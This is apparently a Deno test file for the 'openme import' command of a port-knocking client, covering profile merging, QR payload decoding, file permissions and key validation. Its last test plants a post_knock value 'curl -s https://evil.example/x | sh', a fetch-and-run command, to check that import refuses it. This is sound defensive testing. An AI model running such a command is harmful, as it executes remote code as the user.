/**
 * Tests of `openme import` through the CLI, fed with what the real
 * `openme add` prints (the `profiles:` block, the QR code for a terminal and
 * the QR PNG, decoded with jsqr + pngjs): merging, conflicts, --force,
 * --profile, comments kept, file mode, standard input, and validation before
 * anything is written.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { Buffer } from "node:buffer";
import jsQRModule from "jsqr";
import { PNG } from "pngjs";
import {
  loadClientConfig,
  upsertClientProfile,
} from "../../../lib/config/client_config.ts";
import {
  generateEd25519KeyPair,
  generateX25519KeyPair,
  keyFingerprint,
} from "../../../lib/protocol/crypto.ts";
import { decodeBase64, encodeBase64 } from "../../../lib/encoding.ts";
import { type Captured, openme, openmeOk, runMain } from "../../support/cli.ts";
import { withTempDir } from "../../support/files.ts";

/** jsqr is CommonJS: its default export is the decoder function (typed as the module). */
const jsQR = ((jsQRModule as unknown as { default?: unknown }).default ??
  jsQRModule) as (
    data: Uint8ClampedArray,
    width: number,
    height: number,
  ) => { data: string } | null;

/** The QR payload (SPEC §6). */
interface QrPayload {
  profile: string;
  host: string;
  udp_port: number;
  server_pubkey: string;
  client_privkey: string;
  client_pubkey: string;
}

/** Prefix of this file's temporary directories. */
const TEMP_PREFIX = "openme-import-";
const TERMINAL_COLUMNS = 80;

/** Runs `openme init` and `openme add NAME ...` on a server config in dir; returns add's stdout. */
async function addClient(
  dir: string,
  name: string,
  extra: string[] = [],
  host = "vpn.example.com",
): Promise<string> {
  const server = join(dir, "server.yaml");
  try {
    await Deno.stat(server);
  } catch {
    await openmeOk(["--config", server, "init", "--server", host]);
  }
  const add = await openmeOk(["--config", server, "add", name, ...extra]);
  return add.out;
}

/** Runs `openme --client-config CLIENT_CONFIG import ARGS` in-process. */
function importInto(
  clientConfig: string,
  ...args: string[]
): Promise<Captured> {
  return openme(["--client-config", clientConfig, "import", ...args]);
}

/** The QR payload the `profiles:` block printed by add stands for, with keys in SPEC §6 order. */
function payloadOfBlock(block: string): QrPayload {
  const get = (key: string): string => {
    const m = new RegExp(`^    ${key}: (.+)$`, "m").exec(block);
    assert.ok(m !== null, `no ${key} in ${block}`);
    return m[1].trim();
  };
  const profile = /^ {2}(\S+):$/m.exec(block);
  assert.ok(profile !== null);
  return {
    profile: profile[1],
    host: get("server_host"),
    udp_port: Number(get("server_udp_port")),
    server_pubkey: get("server_pubkey"),
    client_privkey: get("private_key"),
    client_pubkey: get("public_key"),
  };
}

function visibleWidth(line: string): number {
  // deno-lint-ignore no-control-regex
  return [...line.replace(/\x1b\[[0-9;]*m/g, "")].length;
}

async function fileMode(path: string): Promise<number> {
  return (await Deno.stat(path)).mode! & 0o777;
}

Deno.test("import takes the block `openme add` printed and the profile knocks with add's keys", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const printed = await addClient(dir, "alice");
    const file = join(dir, "alice.txt");
    await Deno.writeTextFile(file, printed + "\n");
    const clientConfig = join(dir, "home", ".openme", "config.yaml");
    const result = await importInto(clientConfig, file);
    assert.equal(result.code, 0, result.err);
    const expected = payloadOfBlock(printed);
    const fingerprint = /^# fingerprint: ([0-9a-f]{16})$/m.exec(printed)![1];
    assert.equal(
      result.out,
      `imported profile default (vpn.example.com:54154, key fingerprint ${fingerprint}) in ${clientConfig}\ntry: openme knock default --check`,
    );
    const config = await loadClientConfig(clientConfig);
    const profile = config.profiles.get("default")!;
    assert.equal(profile.serverHost, expected.host);
    assert.equal(profile.serverUdpPort, expected.udp_port);
    assert.equal(encodeBase64(profile.serverPublicKey), expected.server_pubkey);
    assert.equal(encodeBase64(profile.privateKey), expected.client_privkey);
    assert.equal(encodeBase64(profile.publicKey!), expected.client_pubkey);
    assert.equal(keyFingerprint(profile.publicKey!), fingerprint);
    assert.equal(await fileMode(clientConfig), 0o600);
    assert.equal(await fileMode(join(dir, "home", ".openme")), 0o700);
  });
});

Deno.test("add --qr prints a QR code that fits an 80-column terminal", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const printed = await addClient(dir, "phone", ["--qr"]);
    const qrLines = printed.split("\n").filter((line) =>
      /[\u2580-\u259f]/.test(line)
    );
    assert.ok(qrLines.length > 20, `no QR code in:\n${printed}`);
    // The YAML block above it has longer lines (the private key); the QR code is what must fit.
    const widest = Math.max(...qrLines.map(visibleWidth));
    assert.ok(
      widest <= TERMINAL_COLUMNS,
      `widest QR line is ${widest} columns`,
    );
  });
});

Deno.test("add --qr-out writes a PNG that decodes to the exact SPEC §6 payload, and import takes that payload", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const png = join(dir, "phone.png");
    const printed = await addClient(dir, "phone", [
      "--qr-out",
      png,
      "--profile",
      "mobile",
    ]);
    const image = PNG.sync.read(Buffer.from(await Deno.readFile(png)));
    const decoded = jsQR(
      new Uint8ClampedArray(image.data),
      image.width,
      image.height,
    );
    assert.ok(decoded !== null, "jsqr found no QR code in the PNG");
    assert.equal(decoded.data, JSON.stringify(payloadOfBlock(printed)));
    assert.equal(await fileMode(png), 0o600);

    const payloadFile = join(dir, "payload.json");
    await Deno.writeTextFile(payloadFile, decoded.data);
    const clientConfig = join(dir, "client.yaml");
    const result = await importInto(clientConfig, payloadFile);
    assert.equal(result.code, 0, result.err);
    const profile = (await loadClientConfig(clientConfig)).profiles.get(
      "mobile",
    )!;
    const payload = JSON.parse(decoded.data);
    assert.equal(profile.serverHost, payload.host);
    assert.equal(profile.serverUdpPort, payload.udp_port);
    assert.equal(encodeBase64(profile.privateKey), payload.client_privkey);
    assert.equal(encodeBase64(profile.publicKey!), payload.client_pubkey);
    assert.equal(encodeBase64(profile.serverPublicKey), payload.server_pubkey);
  });
});

Deno.test("import - and import without FILE read standard input", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const printed = await addClient(dir, "alice", ["--profile", "work"]);
    const clientConfig = join(dir, "client.yaml");
    const viaDash = await runMain(
      ["--client-config", clientConfig, "import", "-"],
      { stdin: printed },
    );
    assert.equal(viaDash.code, 0, viaDash.err);
    assert.match(viaDash.out, /^imported profile work /);

    const second = await addClient(dir, "bob", ["--profile", "lab"]);
    const viaNothing = await runMain(
      ["--client-config", clientConfig, "import"],
      { stdin: second },
    );
    assert.equal(viaNothing.code, 0, viaNothing.err);
    const names = [...(await loadClientConfig(clientConfig)).profiles.keys()];
    assert.deepEqual(names, ["work", "lab"]);
  });
});

Deno.test("import skips what surrounds the block: a note before it, the fingerprint and a terminal QR code after it", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const printed = await addClient(dir, "alice", ["--qr"]);
    const text =
      `added client alice to /etc/openme/config.yaml; save this as ...\n${printed}\n`;
    const file = join(dir, "mixed.txt");
    await Deno.writeTextFile(file, text);
    const clientConfig = join(dir, "client.yaml");
    const result = await importInto(clientConfig, file);
    assert.equal(result.code, 0, result.err);
    assert.ok((await loadClientConfig(clientConfig)).profiles.has("default"));
  });
});

Deno.test("import refuses to overwrite a profile without --force and writes nothing", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const clientConfig = join(dir, "client.yaml");
    const first = join(dir, "first.txt");
    await Deno.writeTextFile(first, await addClient(dir, "alice"));
    await openmeOk(["--client-config", clientConfig, "import", first]);
    const before = await Deno.readTextFile(clientConfig);
    const second = join(dir, "second.txt");
    await Deno.writeTextFile(second, await addClient(dir, "bob"));
    const result = await importInto(clientConfig, second);
    assert.equal(result.code, 1);
    assert.equal(
      result.err,
      `openme: ${clientConfig} already has profile default; nothing was imported: replace with --force, or import under another name with --profile NAME`,
    );
    assert.equal(await Deno.readTextFile(clientConfig), before);
  });
});

Deno.test("import --force replaces the profile and keeps comments, other profiles and its post_knock", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const clientConfig = join(dir, "client.yaml");
    const client = generateEd25519KeyPair();
    await Deno.writeTextFile(
      clientConfig,
      [
        "# my openme profiles",
        "profiles:",
        "  # the office",
        "  default:",
        "    server_host: old.example.com # moved last year",
        "    server_udp_port: 1234",
        `    server_pubkey: ${encodeBase64(generateX25519KeyPair().publicKey)}`,
        `    private_key: ${encodeBase64(client.privateKey)}`,
        `    public_key: ${encodeBase64(client.publicKey)}`,
        '    post_knock: "ssh me@office"',
        "  lab:",
        "    server_host: lab.example.com",
        `    server_pubkey: ${encodeBase64(generateX25519KeyPair().publicKey)}`,
        `    private_key: ${encodeBase64(client.privateKey)}`,
        "",
      ].join("\n"),
      { mode: 0o644 },
    );
    await Deno.chmod(clientConfig, 0o644);
    const file = join(dir, "new.txt");
    const printed = await addClient(dir, "alice");
    await Deno.writeTextFile(file, printed);
    const result = await importInto(clientConfig, file, "--force");
    assert.equal(result.code, 0, result.err);
    assert.match(
      result.out,
      /^replaced profile default \(vpn\.example\.com:54154/,
    );
    const text = await Deno.readTextFile(clientConfig);
    assert.match(text, /^# my openme profiles$/m);
    assert.match(text, /^ {2}# the office$/m);
    assert.match(text, /server_host: vpn\.example\.com/);
    const config = await loadClientConfig(clientConfig);
    assert.equal(config.profiles.get("default")!.postKnock, "ssh me@office");
    assert.equal(
      encodeBase64(config.profiles.get("default")!.privateKey),
      payloadOfBlock(printed).client_privkey,
    );
    assert.equal(config.profiles.get("lab")!.serverHost, "lab.example.com");
    assert.equal(await fileMode(clientConfig), 0o600);
  });
});

Deno.test("import adds a new profile to a commented config without touching the rest", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const clientConfig = join(dir, "client.yaml");
    const client = generateEd25519KeyPair();
    await upsertClientProfile(clientConfig, {
      name: "home",
      serverHost: "198.51.100.7",
      serverUdpPort: 54154,
      serverPubkeyB64: encodeBase64(generateX25519KeyPair().publicKey),
      privateKeyB64: encodeBase64(client.privateKey),
      publicKeyB64: encodeBase64(client.publicKey),
    });
    const original = `# keep me\n${await Deno.readTextFile(clientConfig)}`;
    await Deno.writeTextFile(clientConfig, original);
    const file = join(dir, "new.txt");
    await Deno.writeTextFile(
      file,
      await addClient(dir, "alice", ["--profile", "work"]),
    );
    const result = await importInto(clientConfig, file);
    assert.equal(result.code, 0, result.err);
    const text = await Deno.readTextFile(clientConfig);
    assert.ok(text.startsWith(original), text);
    assert.deepEqual(
      [...(await loadClientConfig(clientConfig)).profiles.keys()],
      ["home", "work"],
    );
  });
});

Deno.test("import --profile renames one profile and refuses to rename several", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const clientConfig = join(dir, "client.yaml");
    const one = join(dir, "one.txt");
    await Deno.writeTextFile(one, await addClient(dir, "alice"));
    const renamed = await importInto(clientConfig, one, "--profile", "office");
    assert.equal(renamed.code, 0, renamed.err);
    assert.deepEqual(
      [...(await loadClientConfig(clientConfig)).profiles.keys()],
      ["office"],
    );

    const a = await addClient(dir, "bob", ["--profile", "a"]);
    const b = await addClient(dir, "carol", ["--profile", "b"]);
    const two = join(dir, "two.txt");
    // Two `add` outputs merged into one block.
    await Deno.writeTextFile(
      two,
      a.split("\n").filter((l) => !l.startsWith("#")).join("\n") + "\n" +
        b.split("\n").filter((l) => l !== "profiles:").join("\n") + "\n",
    );
    const refused = await importInto(clientConfig, two, "--profile", "x");
    assert.equal(refused.code, 2);
    assert.match(
      refused.err,
      /--profile renames one profile, but .* holds 2 \(a, b\)/,
    );
    const both = await importInto(clientConfig, two);
    assert.equal(both.code, 0, both.err);
    assert.deepEqual(
      [...(await loadClientConfig(clientConfig)).profiles.keys()],
      ["office", "a", "b"],
    );
  });
});

Deno.test("import checks every key before writing anything", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const clientConfig = join(dir, "client.yaml");
    const printed = await addClient(dir, "alice");
    const payload = payloadOfBlock(printed);
    const other = encodeBase64(generateEd25519KeyPair().publicKey);
    const cases: { name: string; text: string; error: RegExp }[] = [
      {
        name: "public key of another key pair",
        text: JSON.stringify({ ...payload, client_pubkey: other }),
        error: /public_key does not match the public half of private_key/,
      },
      {
        name: "32-byte seed with the public key of another key pair",
        text: JSON.stringify({
          ...payload,
          client_privkey: decodeBase64(payload.client_privkey)!.subarray(0, 32)
            .toBase64(),
          client_pubkey: other,
        }),
        error: /public_key does not belong to private_key/,
      },
      {
        name: "corrupt 64-byte private key",
        text: printed.replace(
          payload.client_privkey,
          encodeBase64(
            new Uint8Array([
              ...decodeBase64(payload.client_privkey)!.subarray(0, 32),
              ...generateEd25519KeyPair().publicKey,
            ]),
          ),
        ),
        error:
          /public_key does not match the public half of private_key|not a valid Ed25519 key/,
      },
      {
        name: "short server key",
        text: JSON.stringify({ ...payload, server_pubkey: "AAAA" }),
        error:
          /\(QR payload\):1: profiles\.default\.server_pubkey: key is 3 bytes, expected 32 bytes/,
      },
      {
        name: "missing fields",
        text: JSON.stringify({ profile: "x", host: "h" }),
        error:
          /the QR payload lacks udp_port, server_pubkey, client_privkey, client_pubkey/,
      },
      {
        name: "bad port",
        text: JSON.stringify({ ...payload, udp_port: 70000 }),
        error:
          /\(QR payload\):1: profiles\.default\.server_udp_port: port 70000 out of range 1-65535/,
      },
      {
        name: "broken JSON",
        text: '{"profile": ',
        error: /is not valid JSON/,
      },
      {
        name: "neither block nor JSON",
        text: "hello\n",
        error: /no profile found in .*: expected a line `profiles:`/,
      },
      {
        name: "empty",
        text: "\n\n",
        error: /nothing to import from .*: it is empty/,
      },
    ];
    for (const c of cases) {
      const file = join(dir, "bad.txt");
      await Deno.writeTextFile(file, c.text);
      const result = await importInto(clientConfig, file);
      assert.equal(result.code, 1, `${c.name}: ${result.out}`);
      assert.match(result.err, c.error, c.name);
      await assert.rejects(
        () => Deno.stat(clientConfig),
        Deno.errors.NotFound,
        `${c.name}: wrote the config`,
      );
    }
  });
});

Deno.test("import accepts a QR payload whose private key is a bare 32-byte seed", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const client = generateEd25519KeyPair();
    const payload = {
      profile: "seeded",
      host: "2001:db8::1",
      udp_port: 40000,
      server_pubkey: encodeBase64(generateX25519KeyPair().publicKey),
      client_privkey: encodeBase64(client.privateKey.subarray(0, 32)),
      client_pubkey: encodeBase64(client.publicKey),
    };
    const file = join(dir, "qr.json");
    await Deno.writeTextFile(file, JSON.stringify(payload) + "\n");
    const clientConfig = join(dir, "client.yaml");
    const result = await importInto(clientConfig, file);
    assert.equal(result.code, 0, result.err);
    const profile = (await loadClientConfig(clientConfig)).profiles.get(
      "seeded",
    )!;
    assert.equal(profile.serverHost, "2001:db8::1");
    assert.deepEqual(profile.publicKey, client.publicKey);
  });
});

Deno.test("import of a missing file says how to produce one", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const result = await openme([
      "--client-config",
      join(dir, "client.yaml"),
      "import",
      join(dir, "nope.yaml"),
    ]);
    assert.equal(result.code, 1);
    assert.match(result.err, /cannot import .*nope\.yaml: no such file/);
  });
});

Deno.test("import shows a post_knock command and refuses it, writing nothing, unless --allow-post-knock", async () => {
  await withTempDir(TEMP_PREFIX, async (dir) => {
    const clientConfig = join(dir, "client.yaml");
    const printed = await addClient(dir, "alice");
    const command = "curl -s https://evil.example/x | sh";
    const withCommand = printed.replace(
      /^( {4}public_key: .*)$/m,
      `$1\n    post_knock: ${JSON.stringify(command)}`,
    );
    assert.notEqual(withCommand, printed);
    const file = join(dir, "alice.yaml");
    await Deno.writeTextFile(file, withCommand);
    const refused = await importInto(clientConfig, file);
    assert.equal(refused.code, 1);
    assert.ok(
      refused.err.includes(
        `profile default has post_knock ${
          JSON.stringify(command)
        }: every \`openme knock default\` runs it as you`,
      ),
      refused.err,
    );
    assert.match(
      refused.err,
      /holds a post_knock command \(shown above\); nothing was imported: .*--allow-post-knock/,
    );
    await assert.rejects(Deno.stat(clientConfig), Deno.errors.NotFound);

    const allowed = await importInto(clientConfig, file, "--allow-post-knock");
    assert.equal(allowed.code, 0, allowed.err);
    assert.match(allowed.err, /has post_knock "curl/);
    const config = await loadClientConfig(clientConfig);
    assert.equal(config.profiles.get("default")!.postKnock, command);
  });
});
